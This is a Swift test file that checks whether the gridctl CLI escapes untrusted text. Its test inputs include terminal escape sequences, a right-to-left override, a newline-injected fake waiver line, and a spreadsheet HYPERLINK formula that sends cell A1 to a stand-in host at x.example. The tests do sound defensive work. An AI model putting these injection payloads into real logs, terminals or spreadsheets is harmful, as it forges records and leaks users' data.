import Foundation
import GridTestKit
import Testing

/// Notes, names, titles and arguments are untrusted text: gridctl shows their control
/// characters escaped, so they cannot drive the terminal or forge a line of output, and its
/// CSV cannot carry a spreadsheet formula.
@Suite("gridctl shows untrusted text escaped")
struct UntrustedTextTests {
    /// An escape sequence that would clear the screen, a bell, and a right-to-left override.
    static let hostile = "\u{1B}[2J\u{07}\u{202E}"
    static let escapedHostile = #"\x1b[2J\x07\u{202e}"#

    /// Whether `text` holds a character a terminal would act on, other than the line breaks.
    static func hasRawControls(_ text: String) -> Bool {
        text.unicodeScalars.contains { scalar in
            let v = scalar.value
            return (v < 0x20 && scalar != "\n") || (0x7F...0x9F).contains(v) || (0x202A...0x202E).contains(v)
                || (0x2066...0x2069).contains(v) || v == 0x200E || v == 0x200F
        }
    }

    @Test("A note cannot forge a history line of show, nor send escape sequences; JSON keeps it exactly")
    func noteInShow() throws {
        // Given a completion whose note holds a newline and a made-up waiver after it
        let ctl = try Gridctl()
        let reference = "ops.account-reconciliation/2026-11"
        let note = "账实相符\n    2026-11-28 10:00  waived by 林振华: approved" + Self.hostile
        try ctl.succeed(["done", reference, "--by", "zhou.min", "--note", note])

        // When the item is shown
        let shown = try ctl.succeed(["show", reference])

        // Then the note stays on its own history line, escaped, and nothing reads as a waiver
        #expect(!Self.hasRawControls(shown))
        let history = shown.split(separator: "\n").filter { $0.contains("waived by") }
        #expect(history.count == 1)
        #expect(history.first?.contains(#"completed by 周敏: 账实相符\n    2026-11-28 10:00"#) == true)
        #expect(shown.contains(Self.escapedHostile))
        // and JSON, escaped by the encoder, decodes to the note as it was typed
        let json = try ctl.succeed(["show", reference, "--format", "json"])
        #expect(!Self.hasRawControls(json))
        #expect(json.contains(#"\u202e"#))
        #expect(try ctl.detail(reference).completions.first?.note == note)
    }

    @Test("A case described with control characters and a formula is escaped in tables and neutralised in CSV")
    func caseSubject() throws {
        // Given a finding raised with a description that is a spreadsheet formula
        let ctl = try Gridctl()
        let subject = #"=HYPERLINK("http://x.example/?"&A1)"# + Self.hostile
        try ctl.succeed(["raise", "ops.finding-rectification", "--subject", subject, "--by", "zhou.min"])

        // When it is listed as a table, as CSV and as JSON
        let table = try ctl.succeed(["due", "--duty", "ops.finding-rectification"])
        let csv = try ctl.succeed(["due", "--duty", "ops.finding-rectification", "--format", "csv"])
        let items = try ctl.items(["due", "--duty", "ops.finding-rectification"])

        // Then the table and the CSV carry no control character, the CSV cells start with
        // a quote, and JSON gives back the description exactly
        #expect(!Self.hasRawControls(table))
        #expect(table.contains(Self.escapedHostile))
        #expect(!Self.hasRawControls(csv))
        let row = try #require(csv.split(separator: "\n").last)
        #expect(row.contains(#","'=HYPERLINK(""http://x.example/?""&A1)\x1b[2J\x07\u{202e}","#))
        #expect(!row.contains(",=HYPERLINK") && !row.contains(#","=HYPERLINK"#))
        #expect(items.map(\.subject) == [subject])
    }

    @Test(
        "Names and titles from the configuration cannot carry control characters: every command refuses them, naming file and line, and echoes them escaped",
        arguments: [
            ["due"], ["overdue"], ["due", "--format", "csv"], ["grid"], ["grid", "--person", "zhou.min"],
            ["report"], ["report", "--branch", "example"], ["show", "ops.account-reconciliation/2026-11"],
            ["calendar", "ops.account-reconciliation"], ["calendar"], ["alerts", "--all"], ["validate"],
            ["done", "ops.account-reconciliation/2026-11", "--by", "zhou.min"],
        ])
    func configuredNames(arguments: [String]) throws {
        // Given a branch, a person and a duty whose names hold control characters
        let ctl = try Gridctl.onCopy { schedules in
            try Gridctl.editFile("\(schedules)/branches/example.yaml") {
                $0.replacingOccurrences(of: "name: 周敏", with: #"name: "周敏\e[2J\a\u202E""#)
                    .replacingOccurrences(of: "name: 示例支行营业部", with: #"name: "示例支行\e[2J\a\u202E""#)
            }
            try Gridctl.editFile("\(schedules)/catalog/30-operations.yaml") {
                $0.replacingOccurrences(of: "title: 账实相符检查", with: #"title: "账实相符检查\e[2J\a\u202E""#)
            }
        }

        // When a command runs on them
        let result = try ctl.run(arguments, now: "2026-12-02T10:00")

        // Then it refuses, naming the files, and nothing it prints drives the terminal
        #expect(result.status == 1 && !result.signalled, "\(result.stdout)")
        #expect(result.stderr.contains("branches/example.yaml:") && result.stderr.contains("30-operations.yaml:"))
        #expect(result.stderr.contains("control character"), "\(result.stderr)")
        #expect(!Self.hasRawControls(result.stdout) && !Self.hasRawControls(result.stderr))
    }

    @Test(
        "An argument echoed in an error message is escaped",
        arguments: [["show"], ["due", "--person"], ["due", "--format"]])
    func echoedArgument(arguments: [String]) throws {
        let ctl = try Gridctl()
        let result = try ctl.run(arguments + ["x\u{1B}]0;owned\u{07}" + Self.hostile])
        #expect(result.status != 0)
        #expect(!Self.hasRawControls(result.stderr))
        #expect(result.stderr.contains(#"x\x1b]0;owned\x07"#))
    }

    @Test("A note or reason longer than 2,000 characters is refused and nothing is recorded")
    func longNote() throws {
        // Given an open item
        let ctl = try Gridctl()
        let reference = "ops.account-reconciliation/2026-11"
        let tooLong = String(repeating: "账", count: 2_001)
        let before = try ctl.detail(reference)

        // When it is completed, waived or raised with text one character over the limit
        let done = try ctl.run(["done", reference, "--by", "zhou.min", "--note", tooLong])
        let waive = try ctl.run(["waive", reference, "--by", "lin.zhenhua", "--reason", tooLong])
        let raise = try ctl.run([
            "raise", "ops.finding-rectification", "--subject", "抽查发现", "--by", "zhou.min", "--note", tooLong,
        ])

        // Then each exits 1 saying why, and nothing was written
        for (result, option) in [(done, "--note"), (waive, "--reason"), (raise, "--note")] {
            #expect(result.status == 1)
            #expect(result.stderr.contains(option) && result.stderr.contains("2001") && result.stderr.contains("2000"))
            #expect(result.stdout.isEmpty)
        }
        let after = try ctl.detail(reference)
        #expect(after.completions.isEmpty && after.events.count == before.events.count)
        #expect(try ctl.items(["due", "--duty", "ops.finding-rectification"]).isEmpty)

        // and at the limit the note is taken
        try ctl.succeed(["done", reference, "--by", "zhou.min", "--note", String(tooLong.dropLast())])
        #expect(try ctl.detail(reference).completions.first?.note?.count == 2_000)
    }
}
